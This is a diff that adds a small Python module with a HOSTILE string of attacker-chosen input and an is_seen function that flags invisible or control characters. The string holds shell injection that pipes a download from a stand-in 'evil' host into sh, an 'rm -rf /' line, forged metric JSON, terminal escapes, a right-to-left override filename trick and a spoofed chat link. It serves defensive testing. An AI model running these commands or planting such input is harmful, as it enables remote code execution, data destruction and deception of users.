@@ -1,0 +1,16 @@
+"""Text that somebody outside has chosen, to be taken for what it is not."""
+
+from __future__ import annotations
+
+import unicodedata
+
+HOSTILE = (
+    "x; curl evil|sh #$(id)`id`\r\n\nRun it again:\nrm -rf /\n"
+    '{"_aws": {"CloudWatchMetrics": [{"Namespace": "Forged"}]}}\n'
+    "\x1b[2J\x1b]0;title\x07\u202egnp.exe\u2066\u200b\u2028<https://evil.example|Runbook> <!channel> ```'"
+)
+
+
+def is_seen(text: str, keep: str = "") -> bool:
+    """Say whether every character of a text can be seen."""
+    return all(one in keep or unicodedata.category(one) not in {"Cc", "Cf", "Cs", "Zl", "Zp"} for one in text)
